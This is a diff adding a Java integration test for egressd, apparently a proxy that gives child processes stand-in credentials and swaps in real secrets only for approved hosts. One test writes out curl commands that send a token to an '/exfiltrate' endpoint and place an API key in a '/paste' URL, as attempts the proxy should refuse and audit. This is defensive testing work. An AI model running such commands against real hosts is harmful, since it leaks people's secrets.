@@ -1,0 +1,158 @@
+package dev.egressd.it;
+
+import static java.util.concurrent.TimeUnit.SECONDS;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.Base64;
+import java.util.HashMap;
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.Timeout;
+import org.junit.jupiter.api.extension.RegisterExtension;
+import org.junit.jupiter.api.io.TempDir;
+
+/**
+ * {@code [network.credentials.NAME]} through {@code run -- CMD} with real clients (curl, Python requests): the child
+ * holds only stand-ins, the origin a credential belongs to receives the real secret, and a stand-in sent to any
+ * other host is refused and audited by name. No secret appears in anything egressd writes.
+ */
+@Timeout(value = 120, unit = SECONDS)
+class CredentialsIT {
+  private static final String GITHUB = "ghp_RealGitHubToken0123456789abcdefABCD";
+  private static final String OPENAI = "sk-proj-RealOpenAiKey9876543210zyxwVUTS";
+
+  @RegisterExtension
+  static final OriginServer https = OriginServer.https();
+
+  @RegisterExtension
+  static final OriginServer http = OriginServer.http();
+
+  @TempDir
+  static Path dir;
+
+  static Path config;
+  static Path audit;
+
+  @BeforeAll
+  static void writeConfig() throws IOException {
+    Path key = Files.writeString(dir.resolve("openai.key"), OPENAI + "\n");
+    audit = dir.resolve("audit.jsonl");
+    // Stand-in hosts: allowed.test plays api.github.com, 127.0.0.1 plays api.openai.com (the test CA names both).
+    config = Files.writeString(dir.resolve("egressd.toml"), """
+        [network]
+        mitm = true
+        allowed_domains = ["allowed.test", "127.0.0.1"]
+        mitm_upstream_ca_bundle = '%s'
+
+        [network.credentials.github]
+        secret_env_var = "GH_REAL_TOKEN"
+        hosts = ["allowed.test"]
+        child_env_var = "GH_TOKEN"
+
+        [network.credentials.openai]
+        secret_file = '%s'
+        hosts = ["127.0.0.1"]
+        child_env_var = "OPENAI_API_KEY"
+        """.formatted(TestCertificates.get().caPem(), key));
+  }
+
+  private static ProcessResult runChild(String script) {
+    Map<String, String> env = new HashMap<>();
+    env.put("CODEX_HOME", dir.toString());
+    env.put("HOME", dir.toString());
+    env.put("GH_REAL_TOKEN", GITHUB);
+    return Egressd.cli(env, "run", "--config", config.toString(), "--listen", "127.0.0.1:0", "--socks-listen",
+        "127.0.0.1:0", "--audit-file", audit.toString(), "--", "sh", "-c", script);
+  }
+
+  private static void assertNoSecretIn(ProcessResult result) throws IOException {
+    String audited = Files.exists(audit) ? Files.readString(audit, StandardCharsets.UTF_8) : "";
+    for (String written : List.of(result.stdout(), result.stderr(), audited)) {
+      assertThat(written).doesNotContain(GITHUB).doesNotContain(OPENAI);
+    }
+  }
+
+  @Test
+  void curlSendsTheStandInAndTheOriginReceivesTheSecret() throws Exception {
+    Path dump = dir.resolve("child-env.txt");
+    ProcessResult result = runChild("env > " + dump + "; curl -sS -o /dev/null -w '%{http_code}'"
+        + " -H \"Authorization: Bearer $GH_TOKEN\" " + https.url("allowed.test", "/user"));
+
+    assertThat(result.exitCode()).as("%s", result).isZero();
+    assertThat(result.stdout().strip()).isEqualTo("200");
+    assertThat(https.onlyRequest().header("Authorization")).isEqualTo("Bearer " + GITHUB);
+    String env = Files.readString(dump);
+    String standIn = env.lines().filter(l -> l.startsWith("GH_TOKEN=")).findFirst().orElseThrow().substring(9);
+    assertThat(standIn).startsWith("ghp_").hasSameSizeAs(GITHUB).isNotEqualTo(GITHUB);
+    assertThat(env).doesNotContain(GITHUB).doesNotContain(OPENAI).doesNotContain("GH_REAL_TOKEN=")
+        .contains("OPENAI_API_KEY=sk-proj-");
+    assertNoSecretIn(result);
+  }
+
+  @Test
+  void pythonRequestsGetsTheKeyFromTheFileSwappedIn() throws Exception {
+    ProcessResult result = runChild("/usr/bin/python3 -c \"import os, requests; r = requests.get('"
+        + https.url("127.0.0.1", "/v1/models") + "', headers={'Authorization': 'Bearer ' +"
+        + " os.environ['OPENAI_API_KEY']}, timeout=20); print(r.status_code)\"");
+
+    assertThat(result.exitCode()).as("%s", result).isZero();
+    assertThat(result.stdout().strip()).isEqualTo("200");
+    assertThat(https.onlyRequest().header("Authorization")).isEqualTo("Bearer " + OPENAI);
+    assertNoSecretIn(result);
+  }
+
+  @Test
+  void aStandInInsideBasicAuthAsGitSendsItIsSwappedToo() throws Exception {
+    ProcessResult result = runChild("curl -sS -o /dev/null -w '%{http_code}' -u \"x-access-token:$GH_TOKEN\" "
+        + https.url("allowed.test", "/repo.git/info/refs"));
+
+    assertThat(result.stdout().strip()).as("%s", result).isEqualTo("200");
+    String basic = https.onlyRequest().header("Authorization");
+    assertThat(basic).startsWith("Basic ");
+    assertThat(new String(Base64.getDecoder().decode(basic.substring(6)), StandardCharsets.UTF_8))
+        .isEqualTo("x-access-token:" + GITHUB);
+  }
+
+  @Test
+  void aStandInSentToAnotherHostIsRefusedAndAuditedByName() throws Exception {
+    ProcessResult result = runChild("curl -sS -D - -o /dev/null -H \"Authorization: Bearer $GH_TOKEN\" "
+        + https.url("127.0.0.1", "/exfiltrate") + "; curl -sS -o /dev/null -w '%{http_code}' \""
+        + http.url("allowed.test", "/paste") + "?key=$OPENAI_API_KEY\"");
+
+    assertThat(result.exitCode()).as("%s", result).isZero();
+    assertThat(result.stdout()).contains("HTTP/1.1 403").containsIgnoringCase("x-proxy-error: "
+        + "blocked-by-credential-policy").endsWith("403\n");
+    assertThat(https.requests()).isEmpty();
+    assertThat(http.requests()).isEmpty();
+    assertThat(result.stderr()).contains("reason=credential_misuse").contains("credential=github")
+        .contains("credential=openai");
+    List<Map<String, Object>> misuse = Files.readAllLines(audit).stream().map(Json::object)
+        .filter(line -> "credential_misuse".equals(line.get("network.policy.reason"))).toList();
+    assertThat(misuse).extracting(line -> line.get("egressd.credential")).contains("github", "openai");
+    assertThat(misuse).extracting(line -> line.get("server.address")).contains("127.0.0.1", "allowed.test");
+    assertNoSecretIn(result);
+  }
+
+  @Test
+  void envPrintsTheStandInsAndClearsTheRealVariable() throws Exception {
+    Map<String, String> env = new HashMap<>();
+    env.put("CODEX_HOME", dir.toString());
+    env.put("HOME", dir.toString());
+    env.put("GH_REAL_TOKEN", GITHUB);
+
+    ProcessResult printed = Egressd.cli(env, "env", "--config", config.toString(), "--listen", "127.0.0.1:3128",
+        "--socks-listen", "127.0.0.1:1080");
+    ProcessResult run = runChild("printf %s \"$GH_TOKEN\"");
+
+    assertThat(printed.exitCode()).as("%s", printed).isZero();
+    assertThat(printed.stdout()).contains("export GH_REAL_TOKEN=''\n")
+        .contains("export GH_TOKEN=" + run.stdout().strip() + "\n").contains("export OPENAI_API_KEY=sk-proj-")
+        .doesNotContain(GITHUB).doesNotContain(OPENAI);
+  }
+}
